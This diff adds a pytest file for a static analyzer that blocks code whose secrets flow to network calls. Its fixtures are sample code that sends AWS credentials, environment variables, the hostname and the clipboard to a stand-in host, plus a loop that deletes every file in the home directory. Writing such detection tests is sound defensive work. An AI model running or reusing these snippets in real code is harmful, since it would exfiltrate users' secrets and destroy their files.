@@ -1,0 +1,66 @@
+"""Verdicts from flows: a source reaching a sink decides, co-occurrence alone does not."""
+
+from __future__ import annotations
+
+import pytest
+
+from airlock.analyzer.models import Verdict
+from airlock.analyzer.scan import scan
+
+
+def flow_findings(source: str, rule: str) -> list[str]:
+    report = scan(source, ruleset="default")
+    return [f.message for f in report.active_findings if f.rule_id == rule]
+
+
+def test_the_finding_names_source_and_sink_with_lines() -> None:
+    source = (
+        "import requests\n"
+        "key = open('/home/u/.aws/credentials').read()\n"
+        "requests.post('https://x.example', data=key)\n"
+    )
+    (message,) = flow_findings(source, "AIR-FLOW-001")
+    assert "/home/u/.aws/credentials (line 2)" in message and "requests.post" in message
+
+
+@pytest.mark.parametrize(
+    "source",
+    [
+        # through a helper's parameter and a container filled in place
+        "import os, requests\nbag = {}\nbag['e'] = dict(os.environ)\n"
+        "def send(x):\n    requests.post('https://x.example', json=x)\nsend(bag)\n",
+        # through an attribute set in one method and read in another
+        "import socket, requests\nclass A:\n    def __init__(self):\n"
+        "        self.h = socket.gethostname()\n    def go(self):\n"
+        "        requests.get('https://x.example', params={'h': self.h})\n",
+        # through join and a generator's yield
+        "import requests, pyperclip\ndef grab():\n    yield pyperclip.paste()\n"
+        "requests.post('https://x.example', data=','.join(grab()))\n",
+    ],
+)
+def test_secrets_flowing_out_block(source: str) -> None:
+    assert flow_findings(source, "AIR-FLOW-001")
+    assert scan(source, ruleset="default").verdict == Verdict.block
+
+
+def test_negative_control_secret_beside_an_unrelated_request_is_review() -> None:
+    source = (
+        "import os, requests\nsnapshot = dict(os.environ)\nprint(len(snapshot))\n"
+        "requests.get('https://status.example.org', timeout=5)\n"
+    )
+    assert flow_findings(source, "AIR-FLOW-001") == []
+    assert scan(source, ruleset="default").verdict == Verdict.review
+
+
+def test_a_loop_variable_is_its_own_loops() -> None:
+    """Two loops reuse `name`: only the one over home feeds the delete inside it."""
+    source = (
+        "import os\n"
+        "for d, _, names in os.walk('/tmp/scratch'):\n"
+        "    for name in names:\n        os.remove(os.path.join(d, name))\n"
+        "for d2, _, name_list in os.walk(os.path.expanduser('~')):\n"
+        "    for name in name_list:\n        print(name)\n"
+    )
+    assert flow_findings(source, "AIR-FLOW-003") == []
+    bad = source.replace("print(name)", "os.remove(os.path.join(d2, name))")
+    assert len(flow_findings(bad, "AIR-FLOW-003")) == 1
